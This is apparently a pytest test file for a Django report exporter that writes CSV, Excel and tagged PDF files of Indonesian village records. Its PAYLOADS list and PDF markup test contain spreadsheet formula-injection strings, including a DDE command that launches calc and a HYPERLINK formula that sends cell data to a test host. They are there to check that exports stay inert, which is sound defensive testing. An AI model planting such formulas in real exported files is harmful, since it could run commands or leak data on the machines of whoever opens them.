"""Documents as files: the same rows in each format, inert text, real types, flat memory."""

import csv
import io
import json
import re
import subprocess
import sys
import tracemalloc
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.http import QueryDict
from pypdf import PdfReader

from core.columns import Column
from core.errors import DomainError
from core.exports import reports
from core.exports.delimited import EXCEL, MACHINE, write_csv
from core.exports.filtering import as_json, as_query
from core.exports.formats import FORMATS, file_name, get_format, write
from core.exports.pdf import write_pdf
from core.exports.reports import Content, Document, Letterhead, Report, Signature, register
from core.exports.xlsx import sheet_name, write_xlsx
from core.kinds import FORMULA_STARTS
from units.models import Area

pytestmark = pytest.mark.django_db

MADE_AT = datetime(2021, 2, 15, 1, 15, tzinfo=UTC)
COLUMNS = (
    Column("code", "Kode", kind="code"),
    Column("name", "Nama kampung"),
    Column("formed", "Realisasi", kind="integer", total=True),
    Column("share", "Bagian", kind="percent"),
    Column("pace", "Laju", kind="decimal", places=2),
    Column("formed_on", "Tanggal", kind="date"),
    Column("sent_at", "Dikirim", kind="moment"),
    Column("late", "Terlambat", kind="bool"),
    Column("status", "Status", kind="status", choices=(("verified", "Terverifikasi"),)),
)
ROWS = [
    (
        "35.08.06",
        'Kampung; "Tangguh"\nSemeru',
        1083,
        5.825,
        Decimal("8.28"),
        date(2021, 2, 8),
        datetime(2021, 2, 8, 1, 15, 30, tzinfo=UTC),
        True,
        "verified",
    ),
    ("35.08.07", "=1+1", -2, 0.0, None, date(1899, 12, 31), None, False, "draft"),
    ("35.08.08", "", None, None, Decimal("-0.004"), None, None, None, None),
]


def document(rows=ROWS, columns=COLUMNS, **content):
    return Document("Daftar Kampung Tangguh", columns, Content(rows, **content), MADE_AT)


def bytes_of(writer, made, **options):
    out = io.BytesIO()
    writer(made, out, **options)
    return out.getvalue()


def cells(made, dialect):
    text = bytes_of(write_csv, made, dialect=dialect).decode("utf-8")
    assert text.startswith(dialect.mark)
    return list(
        csv.reader(io.StringIO(text.removeprefix(dialect.mark)), delimiter=dialect.delimiter)
    )


def sheet(made):
    return openpyxl.load_workbook(io.BytesIO(bytes_of(write_xlsx, made)), data_only=True).active


def table(made_sheet):
    """Headings and rows of a sheet, below its head."""
    rows = [list(row) for row in made_sheet.iter_rows(values_only=True)]
    start = next(n for n, row in enumerate(rows) if row[:2] == [made_sheet_label, "Nama kampung"])
    return rows[start], rows[start + 1 :]


made_sheet_label = "Kode"


# CSV


def test_csv_for_an_indonesian_excel():
    assert cells(document(), EXCEL) == [
        [str(column.label) for column in COLUMNS],
        [
            "35.08.06",
            'Kampung; "Tangguh"\nSemeru',
            "1083",
            "5,8%",
            "8,28",
            "2021-02-08",
            "2021-02-08 08:15",
            "Ya",
            "Terverifikasi",
        ],
        ["35.08.07", "'=1+1", "-2", "0,0%", "", "1899-12-31", "", "Tidak", "draft"],
        ["35.08.08", "", "", "", "0,00", "", "", "", ""],
    ]


def test_csv_for_programs():
    assert cells(document(), MACHINE) == [
        [column.key for column in COLUMNS],
        [
            "35.08.06",
            'Kampung; "Tangguh"\nSemeru',
            "1083",
            "5.8",
            "8.28",
            "2021-02-08",
            "2021-02-08T01:15:30+00:00",
            "true",
            "verified",
        ],
        ["35.08.07", "'=1+1", "-2", "0.0", "", "1899-12-31", "", "false", "draft"],
        ["35.08.08", "", "", "", "0.00", "", "", "", ""],
    ]


AREA_COLUMNS = (
    Column("code", "Kode 100%", kind="code"),
    Column("name", "Nama %s"),
    Column("level", "Tingkat", kind="status", choices=Area.Level.choices),
    Column("latitude", "Lintang", kind="decimal", places=6),
)


def make_areas(names):
    Area.objects.bulk_create(
        Area(code=f"{n:05d}", name=name, level=1, kind="provinsi", latitude=n / 7)
        for n, name in enumerate(names)
    )
    return Area.objects.order_by("code")


@pytest.mark.parametrize("dialect", [EXCEL, MACHINE])
def test_csv_of_a_query_is_csv_of_its_rows(dialect):
    """COPY and Python write the same file, byte for byte apart from needless quotes."""
    names = ["Kunir", "=1+1", "'=1+1", 'a"b', "a;b", "a,b", "a\nb", "100%", "\\.", "é", "＝1", " x"]
    queryset = make_areas(names)
    queried = document(queryset, AREA_COLUMNS)
    rows = list(queryset.values_list(*(column.source for column in AREA_COLUMNS)))
    assert cells(queried, dialect) == cells(document(rows, AREA_COLUMNS), dialect)
    assert len(cells(queried, dialect)) == len(names) + 1


def test_csv_of_no_rows_has_its_heading():
    assert len(cells(document(Area.objects.none(), AREA_COLUMNS), EXCEL)) == 1
    assert len(cells(document([]), EXCEL)) == 1


PAYLOADS = [
    f"{start}{body}"
    for start in [*FORMULA_STARTS.replace("\0", ""), "'=", "''+", "'\t"]
    for body in (
        "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", 'HYPERLINK("http://x.test/?"&A1;"klik")', "1",
        "08123456789", "2021", "A1", "(1)", "IMPORTXML(1)", "@SUM(1)", "=1", "-1", " =1", "\n=1",
        "DDE", "ö", "%41", "'", '"', ";=1", ",=1", "\\", "0",
    )
]  # fmt: skip


def test_there_are_many_formula_payloads():
    assert len(PAYLOADS) >= 300


@pytest.mark.parametrize("dialect", [EXCEL, MACHINE])
@pytest.mark.parametrize("queried", [True, False])
def test_no_payload_becomes_a_formula_in_csv(dialect, queried):
    rows = make_areas(PAYLOADS)
    if not queried:
        rows = list(rows.values_list(*(column.source for column in AREA_COLUMNS)))
    written = cells(document(rows, AREA_COLUMNS), dialect)[1:]
    assert [row[1] for row in written] == [f"'{payload}" for payload in PAYLOADS]
    # Numbers and codes beside them are untouched.
    assert [row[0] for row in written] == [f"{n:05d}" for n in range(len(PAYLOADS))]


def test_no_payload_becomes_a_formula_in_a_workbook():
    rows = make_areas(PAYLOADS)
    content = bytes_of(write_xlsx, document(rows, AREA_COLUMNS))
    made = openpyxl.load_workbook(io.BytesIO(content)).active  # formulas as formulas
    found = [cell for cell in made["B"] if cell.row > made.max_row - len(PAYLOADS)]
    assert {cell.data_type for cell in found} == {"s"}
    assert [cell.value for cell in found] == [p.replace("\r", "_x000D_") for p in PAYLOADS]
    assert all(cell.quotePrefix for cell in found if cell.value[0] in "=+-@")
    assert found[0].hyperlink is None


def test_negative_numbers_stay_numbers():
    assert cells(document([(*ROWS[0][:2], -5, -5.8, *ROWS[0][4:])]), EXCEL)[1][2:4] == [
        "-5",
        "-5,8%",
    ]


# Workbooks


def test_workbook_holds_real_types():
    heading, rows = table(sheet(document()))
    assert heading == [str(column.label) for column in COLUMNS]
    assert rows[0] == [
        "35.08.06",
        'Kampung; "Tangguh"\nSemeru',
        1083,
        pytest.approx(0.05825, abs=1e-15),
        8.28,
        datetime(2021, 2, 8),  # noqa: DTZ001 -- a workbook knows no zones
        datetime(2021, 2, 8, 8, 15, 30),  # noqa: DTZ001
        "Ya",
        "Terverifikasi",
    ]
    # Before 1900 a workbook has no dates; what it has not, it says as text.
    assert rows[1] == ["35.08.07", "=1+1", -2, 0, None, "1899-12-31", None, "Tidak", "draft"]
    assert rows[2] == ["35.08.08", None, None, None, -0.004, None, None, None, None]


def test_workbook_adds_up_what_asks_for_it_and_follows_the_filter():
    content = bytes_of(write_xlsx, document())
    shown = openpyxl.load_workbook(io.BytesIO(content), data_only=True).active
    formulas = openpyxl.load_workbook(io.BytesIO(content)).active
    last = shown.max_row
    assert shown.cell(last, 1).value == "Jumlah"
    assert shown.cell(last, 3).value == 1081
    assert formulas.cell(last, 3).value == f"=SUBTOTAL(109,C{last - 3}:C{last - 1})"


def test_workbook_shows_given_totals_as_they_are():
    totals = ("", "Jumlah", 28, None, None, None, None, None, None)
    rows = table(sheet(document(totals=totals)))[1]
    assert rows[-1][1:3] == ["Jumlah", 28]


def test_workbook_says_what_it_is():
    made = sheet(
        document(
            lines=("Minggu ini 6 dari rencana 5.",), filters=(("Program", "KTS"), ("Status", "x"))
        )
    )
    head = [made.cell(row, 1).value for row in range(1, 6)]
    assert head == [
        "Daftar Kampung Tangguh",
        "Minggu ini 6 dari rencana 5.",
        "Program: KTS · Status: x",
        "Dibuat 15 Februari 2021, 08.15 WIB · 3 baris",
        None,
    ]
    assert made.freeze_panes == "A7"
    assert made.auto_filter.ref == "A6:I9"
    assert made.title == "Daftar Kampung Tangguh"
    assert made.print_title_rows == "$6:$6"


def test_workbook_formats():
    made = sheet(document())
    row = made.max_row - 3
    formats = {
        made.cell(row, n).column_letter: made.cell(row, n).number_format for n in range(3, 8)
    }
    assert formats == {
        "C": "#,##0",
        "D": "0.0 %",
        "E": "#,##0.00",
        "F": "[$-421]d mmmm yyyy",
        "G": "[$-421]d mmmm yyyy hh:mm",
    }


def test_workbook_of_no_rows():
    made = sheet(document(Area.objects.none(), AREA_COLUMNS))
    assert made.max_row == 5


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Daftar [1]: a/b", "Daftar 1 a b"),
        ("x" * 40, "x" * 31),
        ("'[]'", "Data"),
    ],
)
def test_sheet_names(title, name):
    assert sheet_name(title) == name


# Memory


@pytest.mark.parametrize(
    ("writer", "options", "count"),
    [(write_csv, {"dialect": EXCEL}, 20_000), (write_xlsx, {}, 8_000)],
    ids=["csv", "xlsx"],
)
def test_memory_does_not_grow_with_the_rows(writer, options, count, tmp_path):
    """A workbook that kept its cells would hold five times the bound."""
    rows = make_areas(f"Nama yang cukup panjang untuk dihitung {n}" for n in range(count))
    small, large = document(rows[:2000], AREA_COLUMNS), document(rows, AREA_COLUMNS)

    def written(made):
        tracemalloc.start()
        try:
            with (tmp_path / "out").open("w+b") as out:
                writer(made, out, **options)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    written(small)  # imports and caches
    assert written(large) < written(small) + 1_000_000


# PDF

LETTERHEAD = Letterhead(
    ("KEPOLISIAN NEGARA REPUBLIK INDONESIA", "DAERAH JAWA TIMUR", "RESOR LUMAJANG")
)
SIGNATURE = Signature(
    "Lumajang, 15 Februari 2021",
    ("a.n. KEPALA KEPOLISIAN RESOR LUMAJANG", "KASAT BINMAS"),
    "NAMA (simulasi)",
    "AJUN KOMISARIS POLISI NRP 00000001",
)


def paper(made):
    return PdfReader(io.BytesIO(bytes_of(write_pdf, made)))


def words(reader):
    return " ".join("\n".join(page.extract_text() for page in reader.pages).split())


def signed(rows=ROWS, columns=COLUMNS, **content):
    return Document(
        "Daftar Kampung Tangguh", columns, Content(rows, **content), MADE_AT, LETTERHEAD, SIGNATURE
    )


def test_pdf_is_tagged_and_fit_for_archives():
    reader = paper(signed())
    catalog = reader.trailer["/Root"]
    assert catalog["/Lang"] == "id"
    assert catalog["/MarkInfo"]["/Marked"]
    assert catalog["/StructTreeRoot"]["/Type"] == "/StructTreeRoot"
    assert reader.metadata.title == "Daftar Kampung Tangguh"
    assert reader.metadata.creation_date == MADE_AT
    described = catalog["/Metadata"].get_data().decode()
    assert re.search(r"pdfaid:part(>|=\")2", described)
    assert re.search(r"pdfaid:conformance(>|=\")A", described)
    assert re.search(r"pdfuaid:part(>|=\")1", described)
    roles = set(structure(catalog["/StructTreeRoot"]))
    assert {"/H1", "/Table", "/TR", "/TH", "/TD"} <= roles


def structure(node):
    node = node.get_object() if hasattr(node, "get_object") else node
    if isinstance(node, list):
        for child in node:
            yield from structure(child)
    elif isinstance(node, dict):
        if "/S" in node:
            yield node["/S"]
        if "/K" in node:
            yield from structure(node["/K"])


def test_pdf_shows_letterhead_values_and_signature():
    text = words(paper(signed(filters=(("Program", "KTS"),), lines=("Enam dari lima.",))))
    for part in (
        *LETTERHEAD.lines, "Daftar Kampung Tangguh", "Enam dari lima.", "Program: KTS", "1.083",
        "5,8 %", "8,28", "8 Februari 2021", "Terverifikasi", "−2", "Ya", "Jumlah", "1.081",
        SIGNATURE.place_and_date, *SIGNATURE.office, SIGNATURE.name, SIGNATURE.number,
        "Dibuat 15 Februari 2021, 08.15 WIB · 3 baris", "Halaman 1 dari 1",
    ):  # fmt: skip
        assert part in text, part


def test_pdf_takes_nobody_s_words_for_markup():
    hostile = '#panic("x") $ *tebal* _miring_ = judul @rujukan <label> \\ // #sys.inputs `kode` ]['
    row = ("35.08.06", hostile, *ROWS[0][2:])
    text = words(paper(signed([row], lines=(hostile,), filters=((hostile, hostile),))))
    assert text.count("#panic(") == 4
    assert "*tebal* _miring_" in text


def test_pdf_says_what_it_cannot_print():
    row = ("35.08.06", "Kampung 😀 汉", *ROWS[0][2:])
    text = words(paper(signed([row])))
    assert "Kampung □ □" in text
    assert "□ menggantikan huruf yang tidak dapat dicetak" in text


def test_pdf_of_the_same_moment_is_the_same_file():
    assert bytes_of(write_pdf, signed()) == bytes_of(write_pdf, signed())


def test_pdf_of_no_rows():
    assert "Tidak ada data." in words(paper(signed([])))


def test_pdf_has_a_limit_and_names_the_way_on():
    with pytest.raises(DomainError, match=r"1\.000 baris.*XLSX atau CSV"):
        bytes_of(write_pdf, signed([ROWS[0]] * 1001))
    queried = document(make_areas(str(n) for n in range(1001)), AREA_COLUMNS)
    with pytest.raises(DomainError, match=r"1\.000 baris"):
        bytes_of(write_pdf, queried)


def test_pdf_numbers_its_pages_and_repeats_its_headings():
    reader = paper(signed([ROWS[0]] * 100))
    assert len(reader.pages) > 2
    for number, page in enumerate(reader.pages, 1):
        text = " ".join(page.extract_text().split())
        assert f"Halaman {number} dari {len(reader.pages)}" in text
        assert "Nama kampung" in text or SIGNATURE.name in text


def test_the_typesetter_imports_no_django():
    code = "import sys, core.exports.typesetter; print('django' in sys.modules)"
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == "False"


# Reports and their formats


@pytest.fixture
def registry(monkeypatch):
    monkeypatch.setattr(reports, "_REPORTS", {})


def test_paper_has_the_columns_that_fit(registry):
    report = register(
        Report("a", "A", COLUMNS, lambda user, filters: Content(ROWS), paper=("code", "formed"))
    )
    out = io.BytesIO()
    write(document(totals=("", "", 1081, *[None] * 6)), report, FORMATS["pdf"], out)
    text = words(PdfReader(out))
    assert "Realisasi" in text
    assert "1.081" in text
    assert "Nama kampung" not in text


def test_a_report_is_registered_once_with_columns_that_exist(registry):
    report = Report("a", "A", COLUMNS, lambda user, filters: Content([]))
    assert reports.get_report(register(report).name) is report
    with pytest.raises(ValueError, match="exists"):
        register(report)
    with pytest.raises(ValueError, match="no columns x"):
        register(Report("b", "B", COLUMNS, report.content, paper=("x",)))


@pytest.mark.parametrize("name", ["b", "", None, 7, ["a"]])
def test_unknown_names_are_refused_in_words(registry, name):
    report = register(Report("a", "A", COLUMNS, lambda user, filters: Content([])))
    with pytest.raises(DomainError, match="Pilihan: a") as refused:
        reports.get_report(name)
    assert list(refused.value.errors) == ["report"]
    with pytest.raises(DomainError, match="Pilihan: xlsx, ods, pdf, csv, csv-machine"):
        get_format(name, report)


def test_file_names_suit_every_system():
    report = Report("formations", "A", COLUMNS, lambda user, filters: Content([]))
    day = date(2021, 2, 15)
    name = file_name(report, "Polres Lumajang / Désa: ../é", day, FORMATS["xlsx"])
    assert name == "formations-polres-lumajang-desa-e-2021-02-15.xlsx"
    assert file_name(report, "", day, FORMATS["csv-machine"]) == "formations-2021-02-15-machine.csv"


def test_filters_go_into_json_and_back():
    query = QueryDict("program=KTS&status=draft&status=verified&q=")
    assert as_json(query) == {"program": ["KTS"], "status": ["draft", "verified"], "q": [""]}
    again = as_query(json.loads(json.dumps(as_json(query))))
    assert again.getlist("status") == ["draft", "verified"]
    assert "q" not in again
    assert as_query({"late": True, "level": 4}).dict() == {"late": "true", "level": "4"}


@pytest.mark.parametrize("value", [{"a": 1}, "x" * 201, "a\0b", [["a"]], ["\ud800"]])
def test_filters_that_are_no_filters(value):
    with pytest.raises(DomainError) as refused:
        as_query({"q": value})
    assert list(refused.value.errors) == ["filters.q"]


def test_moments_of_a_workbook_are_local():
    made = sheet(document([(*ROWS[0][:6], MADE_AT - timedelta(hours=2), *ROWS[0][7:])]))
    assert table(made)[1][0][6].hour == 6
